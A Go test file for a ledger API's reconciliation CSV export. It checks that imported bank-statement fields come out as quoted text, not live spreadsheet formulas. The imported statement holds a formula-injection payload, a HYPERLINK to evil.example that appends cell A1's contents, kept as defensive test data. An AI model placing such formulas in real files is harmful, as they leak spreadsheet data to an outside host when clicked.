package httpapi_test

import (
	"context"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/ordos-union/ledger/httpapi"
)

// A bank statement's remark "=HYPERLINK(…)" and counterparty "=1+2" reach
// the reconciliation's CSV export as text behind a single quote, for the
// finance role and the admin alike, not as formulas a spreadsheet runs.
func TestReconciliationCSVExportCarriesNoFormula(t *testing.T) {
	server := startTestServer(t, func(options *httpapi.Options) { options.Clock = financeClock() })
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	financeSeed(ctx, t, server)
	statement := "日期,流水号,摘要,对方户名,对方账号,交易金额\n" +
		"2022-06-21,ICBC-0621-0099,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",\"=1+2\",,123.45\n"
	status, body := financeDo(ctx, t, server, httpapi.RoleFinance, http.MethodPost, "/api/v1/reconciliation/statements?file=x.csv&account=icbc-test-account", statement)
	if status != http.StatusCreated {
		t.Fatalf("import: %d %s", status, body)
	}
	for _, role := range []httpapi.Role{httpapi.RoleFinance, httpapi.RoleAdmin} {
		status, body = financeDo(ctx, t, server, role, http.MethodGet, "/api/v1/reconciliation/export?format=csv", "")
		if status != http.StatusOK {
			t.Fatalf("%s export: %d %s", role, status, body)
		}
		found := false
		for _, line := range strings.Split(string(body), "\n") {
			if !strings.Contains(line, "ICBC-0621-0099") {
				continue
			}
			found = true
			if strings.Contains(line, ",=") || strings.Contains(line, `,"=`) {
				t.Errorf("%s export carries a formula: %s", role, line)
			}
			if !strings.Contains(line, ",123.45,") {
				t.Errorf("%s export: the amount is not a plain number: %s", role, line)
			}
		}
		if !found {
			t.Fatalf("%s export has no row for the imported line:\n%s", role, body)
		}
	}
}
